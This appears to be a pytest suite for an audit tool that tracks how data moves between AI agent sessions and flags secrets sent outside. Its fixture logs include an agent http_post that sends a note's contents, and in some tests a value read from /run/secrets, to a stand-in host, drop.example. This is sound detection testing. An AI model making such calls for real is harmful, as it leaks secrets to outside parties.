"""Chains between sessions in real audits: one file, two files, two runs, any order, killed half-way."""

from __future__ import annotations

import json
import signal
import subprocess
import sys
import time

import polars as pl
import pytest

from afteraction.audit import Audit
from afteraction.lake import Lake, query

PASSWORD = "Tr0ub4dor" + "Xk29pLw7"
NOTE = (
    "Rollout of the billing service: drain the old nodes first, then move the queue, then call Marta in the "
    "evening shift and read her the numbers from the second table before anything is switched over."
)


def line(session, call, tool, args, at, **more):
    base = {
        "session_id": session,
        "agent_id": f"agent-{session}",
        "call_id": call,
        "tool": tool,
        "args": args,
    }
    return json.dumps(base | {"time": f"2026-11-{at}Z"} | more)


def writer(session="a", at="03T10:00:0", place="N-17", text=NOTE):
    return [
        line(session, "c1", "read_file", {"path": "runbooks/billing.md"}, at + "0", result=text),
        line(session, "c2", "update_note", {"note_id": place, "content": text}, at + "5", result="saved"),
    ]


def reader(session="b", at="04T10:00:0", place="N-17", text=NOTE):
    return [
        line(session, "c1", "get_note", {"note_id": place}, at + "0", result=json.dumps({"text": text})),
        line(
            session,
            "c2",
            "http_post",
            {"url": "https://drop.example/in", "body": text},
            at + "5",
            result="ok",
        ),
    ]


def other(session="z", at="02T09:00:0"):
    return [
        line(session, "c1", "get_weather", {"city": "Oslo"}, at + "0", result="It is raining in Oslo today.")
    ]


def write(file, *sessions):
    file.write_text("\n".join(one for session in sessions for one in session) + "\n")
    return file


KEYED = ("chain_id",)


def chains(home):
    return Lake(home).read("chains").sort("chain_id")


def test_what_one_session_wrote_and_another_read_and_sent_is_one_chain(tmp_path):
    home = tmp_path / "home"
    report = Audit(home).run([write(tmp_path / "log.jsonl", writer(), reader(), other())])
    assert report.analysis.chains == 1
    (row,) = query(home, "SELECT * FROM chains").rows(named=True)
    calls = dict(query(home, "SELECT action_id, session_id || ' ' || tool FROM actions").iter_rows())
    assert calls[row["origin_action_id"]] == "a read_file"
    assert calls[row["written_action_id"]] == "a update_note"
    assert calls[row["read_action_id"]] == "b get_note"
    assert calls[row["sent_action_id"]] == "b http_post"
    assert (row["origin_place"], row["place"]) == ("runbooks/billing.md", "N-17")
    assert (row["writer_agent_id"], row["agent_id"]) == ("agent-a", "agent-b")
    assert (row["destination"], row["destination_class"]) == ("drop.example", "unknown")
    assert row["how"].startswith("same place>")
    assert row["strength"] >= 0.5
    assert row["written_at"] < row["read_at"]


def test_every_order_of_files_and_runs_gives_the_same_chains(tmp_path):
    files = [
        write(tmp_path / "a.jsonl", writer()),
        write(tmp_path / "b.jsonl", reader()),
        write(tmp_path / "c.jsonl", writer("c", "03T12:00:0", "N-18", NOTE + " Extra.")),
        write(tmp_path / "d.jsonl", reader("d", "05T12:00:0", "N-18", NOTE + " Extra.")),
    ]
    whole = Audit(tmp_path / "whole")
    whole.run(files)
    expected = chains(tmp_path / "whole")
    assert expected.height >= 2
    for number, order in enumerate(([0, 1, 2, 3], [3, 2, 1, 0], [1, 3, 0, 2])):
        home = tmp_path / str(number)
        for one in order:
            Audit(home).run([files[one]])
        assert chains(home).equals(expected), order


def test_twice_in_a_row_changes_nothing(tmp_path):
    home, log = tmp_path / "home", write(tmp_path / "log.jsonl", writer(), reader())
    Audit(home).run([log])
    before = {name: Lake(home).version(name) for name in ("chains", "touches")}
    Audit(home).run([log])
    assert {name: Lake(home).version(name) for name in before} == before


@pytest.mark.parametrize("delay", [1.0, 2.0, 3.0])
def test_killed_half_way_and_run_again_gives_the_same_chains(tmp_path, delay):
    home, log = tmp_path / "home", write(tmp_path / "log.jsonl", writer(), reader())
    code = (
        "import sys; from pathlib import Path; from afteraction.audit import Audit\n"
        "if __name__ == '__main__':\n    Audit(Path(sys.argv[1])).run([Path(sys.argv[2])])"
    )
    process = subprocess.Popen([sys.executable, "-c", code, str(home), str(log)], stderr=subprocess.DEVNULL)
    time.sleep(delay)
    process.send_signal(signal.SIGKILL)
    process.communicate()
    Audit(home).run([log])
    assert query(home, "SELECT count(*) FROM chains").item() == 1


def test_a_kill_between_analysis_and_chains_is_made_up_for(tmp_path, monkeypatch):
    home, log = tmp_path / "home", write(tmp_path / "log.jsonl", writer(), reader())
    audit = Audit(home)
    audit.ingest([log])
    monkeypatch.setattr("afteraction.audit.chain_step.follow_chains", lambda *_: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        audit.analyse()
    monkeypatch.undo()
    assert Audit(home).analyse().chains == 1


def test_reading_before_the_writing_is_no_chain(tmp_path):
    log = write(tmp_path / "log.jsonl", writer(at="06T10:00:0"), reader(at="04T10:00:0"))
    assert Audit(tmp_path / "home").run([log]).analysis.chains == 0


def test_two_sessions_that_read_the_same_source_are_no_chain(tmp_path):
    again = [line("b", "c1", "read_file", {"path": "runbooks/billing.md"}, "04T10:00:00", result=NOTE)]
    log = write(tmp_path / "log.jsonl", writer(), again)
    assert Audit(tmp_path / "home").run([log]).analysis.chains == 0


def test_boilerplate_that_many_write_links_nobody(tmp_path):
    many = [writer(f"w{n}", f"03T1{n % 10}:00:0", f"N-{100 + n}") for n in range(9)]
    elsewhere = [line("r", "c1", "get_page", {"page": "P-9"}, "05T10:00:00", result=NOTE)]
    log = write(tmp_path / "log.jsonl", *many, elsewhere)
    assert Audit(tmp_path / "home").run([log]).analysis.chains == 0


def test_a_value_alone_links_across_places_when_it_is_rare(tmp_path):
    put = [
        line(
            "a",
            "c1",
            "create_ticket",
            {"title": "Access", "body": f"use {PASSWORD} now"},
            "03T10:00:00",
            result="ok",
        )
    ]
    got = [line("b", "c1", "list_messages", {"channel": "ops"}, "04T10:00:00", result=f"hint = {PASSWORD}")]
    home = tmp_path / "home"
    Audit(home).run([write(tmp_path / "log.jsonl", put, got)])
    assert query(home, "SELECT how FROM chains")["how"].to_list() == ["same content>value"]


def test_tenants_are_never_linked(tmp_path):
    one = [json.dumps(json.loads(row) | {"tenant": "one"}) for row in writer()]
    two = [json.dumps(json.loads(row) | {"tenant": "two"}) for row in reader()]
    assert Audit(tmp_path / "home").run([write(tmp_path / "log.jsonl", one, two)]).analysis.chains == 0


def test_sessions_without_times_are_linked_too(tmp_path):
    rows = [{k: v for k, v in json.loads(one).items() if k != "time"} for one in [*writer(), *reader()]]
    log = write(tmp_path / "log.jsonl", [json.dumps(row) for row in rows])
    assert Audit(tmp_path / "home").run([log]).analysis.chains == 1


def test_without_the_tenants_key_no_new_value_is_recognised(tmp_path):
    home = tmp_path / "home"
    Audit(home).run([write(tmp_path / "a.jsonl", writer())])
    for key in (home / "keys" / "tenants").glob("*.key"):
        key.unlink()
    Audit(home).run([write(tmp_path / "b.jsonl", reader())])
    assert query(home, "SELECT count(*) FROM chains").item() == 0
    touched = Lake(home).read("touches")
    marks = [set(part["marks"].explode().drop_nulls()) for part in touched.partition_by("session_key")]
    assert len(marks) == 2
    assert not marks[0] & marks[1]


def test_no_raw_text_stands_in_touches_or_chains(tmp_path):
    home = tmp_path / "home"
    Audit(home).run([write(tmp_path / "log.jsonl", writer(), reader())])
    for name in ("touches", "chains"):
        assert "Marta" not in Lake(home).read(name).write_ndjson()
        for file in (home / "lake" / name).rglob("*.parquet"):
            assert b"Marta" not in file.read_bytes()
    assert isinstance(Lake(home).read("touches"), pl.DataFrame)


CODE = "copper lantern seven orchard"


def secret_writer(session="a", at="03T10:00:0", place="N-17"):
    return [
        line(session, "c1", "read_file", {"path": "/run/secrets/door"}, at + "0", result=CODE),
        line(session, "c2", "update_note", {"note_id": place, "content": CODE}, at + "5", result="saved"),
    ]


def relay(session, at, source, place):
    return [
        line(session, "c1", "get_note", {"note_id": source}, at + "0", result=json.dumps({"text": CODE})),
        line(session, "c2", "update_note", {"note_id": place, "content": CODE}, at + "5", result="saved"),
    ]


def found(home):
    asked = (
        """SELECT session_id, title, severity FROM findings WHERE detector = 'sensitive_flow' ORDER BY 1"""
    )
    return query(home, asked).rows()


LEFT = ("b", "A secret value that another session left here goes outside", "critical")


def test_a_secret_of_another_session_that_is_sent_out_is_a_critical_finding(tmp_path):
    home = tmp_path / "home"
    log = write(tmp_path / "log.jsonl", secret_writer(), reader(text=CODE))
    Audit(home).run([log])
    assert found(home) == [LEFT]
    level = "SELECT level FROM action_risk JOIN actions USING (action_id) WHERE tool = 'http_post'"
    assert query(home, level).item() in {"high", "critical"}
    assert query(home, "SELECT sensitivity FROM chains").item() == "secret"
    assert query(home, "SELECT how FROM flows WHERE sensitivity = 'secret'")["how"].to_list() == [
        "exact>chain"
    ]
    assert Audit(home).run([log]).analysis.sessions == 0


@pytest.mark.parametrize("order", [(0, 1), (1, 0)])
def test_a_session_that_was_judged_before_is_judged_again_when_its_secret_comes_to_light(tmp_path, order):
    home = tmp_path / "home"
    files = [
        write(tmp_path / "a.jsonl", secret_writer()),
        write(tmp_path / "b.jsonl", reader(text=CODE)),
    ]
    for one in order:
        Audit(home).run([files[one]])
    assert found(home) == [LEFT]


@pytest.mark.parametrize("order", [(0, 1, 2), (2, 1, 0), (1, 2, 0)])
def test_a_secret_is_followed_through_several_sessions(tmp_path, order):
    home = tmp_path / "home"
    files = [
        write(tmp_path / "a.jsonl", secret_writer()),
        write(tmp_path / "m.jsonl", relay("m", "03T11:00:0", "N-17", "N-99")),
        write(tmp_path / "b.jsonl", reader(place="N-99", text=CODE)),
    ]
    for one in order:
        Audit(home).run([files[one]])
    assert found(home) == [LEFT]
    hops = query(home, "SELECT writer_session_key, session_key FROM chains ORDER BY read_at").rows()
    assert len(hops) == 2
    assert hops[0][1] == hops[1][0]


def test_a_kill_before_the_heirs_are_judged_is_made_up_for(tmp_path, monkeypatch):
    home, log = tmp_path / "home", write(tmp_path / "log.jsonl", secret_writer(), reader(text=CODE))
    audit = Audit(home)
    audit.ingest([log])
    real, calls = Audit._analyse, []

    def once(self, *args, **more):
        calls.append(args)
        return real(self, *args, **more) if len(calls) == 1 else 1 / 0

    monkeypatch.setattr(Audit, "_analyse", once)
    with pytest.raises(ZeroDivisionError):
        audit.analyse()
    monkeypatch.undo()
    Audit(home).run([log])
    assert found(home) == [LEFT]


def test_destroying_the_tenants_key_ends_its_chains(tmp_path):
    home = tmp_path / "home"
    Audit(home).run([write(tmp_path / "a.jsonl", secret_writer())])
    for key in (home / "keys" / "tenants").glob("*.key"):
        key.unlink()
    Audit(home).run([write(tmp_path / "b.jsonl", reader(text=CODE))])
    assert query(home, "SELECT count(*) FROM chains").item() == 0
    assert found(home) == []
